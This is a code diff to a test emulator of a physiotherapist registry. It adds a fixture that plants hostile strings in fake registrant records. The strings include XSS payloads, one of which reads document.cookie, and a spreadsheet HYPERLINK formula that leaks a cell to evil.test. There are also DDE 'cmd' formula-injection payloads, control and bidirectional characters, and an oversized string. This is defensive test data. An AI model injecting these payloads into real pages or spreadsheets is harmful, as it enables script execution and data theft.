@@ -23,7 +23,7 @@ import random
 import sys
 import time
 from collections.abc import Iterable
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from datetime import date, timedelta
 from urllib.parse import unquote
 
@@ -635,6 +635,58 @@ def _error_page(status: int, title: str) -> Reply:
 
 # ---------------------------------------------------------------------------------------------
 # The server
+
+
+# ---------------------------------------------------------------------------------------------
+# The hostile register: what a compromised or careless register could hold
+
+
+HOSTILE_TEXT = (
+    "<script>alert('name')</script>",
+    '"><img src=x onerror=alert(1)>',
+    "javascript:alert(document.cookie)",
+    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTab=1+1",
+    "\rReturn=1+1",
+    "Nul\x00Byte\x07Bell\x1bEscape",
+    "\u202eevil\u202c override",
+    "\u2067isolated\u2069 and \u200bzero\u200dwidth\ufeff",
+    "Semi;=1+1,=2+2",
+    "A" * 10_000,
+)
+
+
+def hostile_physiotherapists(count: int = 40, seed: int = 2026) -> list[Registrant]:
+    """The usual population, but its first len(HOSTILE_TEXT) people carry hostile text: markup,
+    broken attributes, `javascript:` URLs, control characters, bidirectional overrides,
+    zero-width characters, a 10,000-character string and spreadsheet formulas, in the name, the
+    given names, the conditions, the specialty and the employer (organization, and every other
+    one's city; the rest are in Halifax)."""
+    people = nova_scotia_physiotherapists(max(count, len(HOSTILE_TEXT)), seed)
+    out = []
+    for i, person in enumerate(people):
+        if i >= len(HOSTILE_TEXT):
+            out.append(person)
+            continue
+        text = HOSTILE_TEXT[i]
+        other = HOSTILE_TEXT[(i + 3) % len(HOSTILE_TEXT)]
+        out.append(
+            replace(
+                person,
+                family_name=text,
+                given_names=other,
+                status=PRACTICING,
+                resigned="",
+                conditions=[other],
+                specialty=text,
+                employers=[Employer(f"{other} Clinic", "Halifax" if i % 2 else text, True, "B3H")],
+                city="Halifax",
+            )
+        )
+    return out[:count] if count >= len(HOSTILE_TEXT) else out
 
 
 class NSPhysioEmulator(Emulator):
